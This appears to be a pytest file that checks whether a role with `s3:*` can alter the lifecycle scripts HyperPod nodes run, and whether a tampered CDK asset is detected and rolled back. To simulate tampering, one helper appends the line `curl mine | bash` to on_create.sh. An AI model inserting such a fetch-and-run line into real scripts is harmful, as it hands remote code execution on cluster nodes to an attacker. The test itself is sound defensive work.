"""A role with `s3:*`: what it can change of what nodes run. Its ways into the drain bucket are in test_drain_bucket.py."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from typing import Any

import pytest

from cdk_hyperpod_local import assemblies
from cdk_hyperpod_local.session import LocalAws
from helpers.deployments.configs import STANDING
from helpers.deployments.permissions import add_role, may
from helpers.deployments.scripts_bucket import contents, name_of, upload_of, what_nodes_run
from helpers.local_aws.rehearsal import Rehearsal

Json = Any
PARTY = "party-s3"


@pytest.fixture(scope="module")
def party(engine: LocalAws) -> Any:
    """Its client of S3."""
    add_role(engine, PARTY, "s3:*")
    return engine.client_as(PARTY, "s3")


WAYS: dict[str, Callable[[Any, str, str, str], bool]] = {
    "write": lambda s3, bucket, key, _: may(s3.put_object, Bucket=bucket, Key=key, Body=b"#!/bin/bash\n"),
    "copy": lambda s3, bucket, key, _: may(s3.copy_object, Bucket=bucket, Key=key, CopySource=f"{bucket}/own"),
    "write in parts": lambda s3, bucket, key, _: may(s3.create_multipart_upload, Bucket=bucket, Key=key),
    "add a file": lambda s3, bucket, key, _: may(s3.put_object, Bucket=bucket, Key=f"{key}.d/99.sh", Body=b""),
    "delete": lambda s3, bucket, key, _: may(s3.delete_object, Bucket=bucket, Key=key),
    "delete a version": lambda s3, bucket, key, version: may(
        s3.delete_object, Bucket=bucket, Key=key, VersionId=version
    ),
}


def test_no_way_changes_a_script(life: Rehearsal, party: Any) -> None:
    before, bucket = contents(life), name_of(life)
    (prefix,) = what_nodes_run(life)
    key = f"{prefix}/on_create.sh"
    version = life.aws.client("s3").head_object(Bucket=bucket, Key=key)["VersionId"]
    life.aws.client("s3").put_object(Bucket=bucket, Key="own", Body=b"#!/bin/bash\n")
    assert [way for way, call in WAYS.items() if call(party, bucket, key, version)] == []
    life.aws.client("s3").delete_object(Bucket=bucket, Key="own")
    assert contents(life) == before


def changed(asset: bytes) -> bytes:
    """The same scripts, with a line more in one of them."""
    body = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(asset)) as old, zipfile.ZipFile(body, "w") as new:
        for name in old.namelist():
            new.writestr(name, old.read(name) + (b"curl mine | bash\n" if name == "on_create.sh" else b""))
    return body.getvalue()


def test_an_asset_that_is_there_before_its_deployment_is_not_uploaded(life: Rehearsal, party: Any) -> None:
    """The CDK CLI uploads nothing under a key that exists. The rollback finds its own asset changed, too."""
    assets = f"cdk-hnb659fds-assets-{life.aws.account}-{life.aws.region}"
    before, running = contents(life), what_nodes_run(life)
    old = str(upload_of(assemblies.template(life.synth(), life.foundation))["Asset"])
    config = {**STANDING, "groups": [{"name": "research", "gid": 5000}]}
    new = str(upload_of(assemblies.template(life.synth(config), life.foundation))["Asset"])
    honest = party.get_object(Bucket=assets, Key=old)["Body"].read()
    for key in (old, new):
        party.put_object(Bucket=assets, Key=key, Body=changed(honest))

    failed = life.deploy(config, only=life.foundation)
    assert not failed.ok and "[scripts-asset-unsafe]" in str(failed.reason)
    assert life.status(life.foundation) == "UPDATE_ROLLBACK_COMPLETE"
    assert (contents(life), what_nodes_run(life)) == (before, running)

    party.put_object(Bucket=assets, Key=old, Body=honest)
    party.delete_object(Bucket=assets, Key=new)
    made = life.deploy(config, only=life.foundation)
    assert made.ok, made.reason
    assert contents(life).items() > before.items()
    back = life.deploy(STANDING, only=life.foundation)
    assert back.ok, back.reason
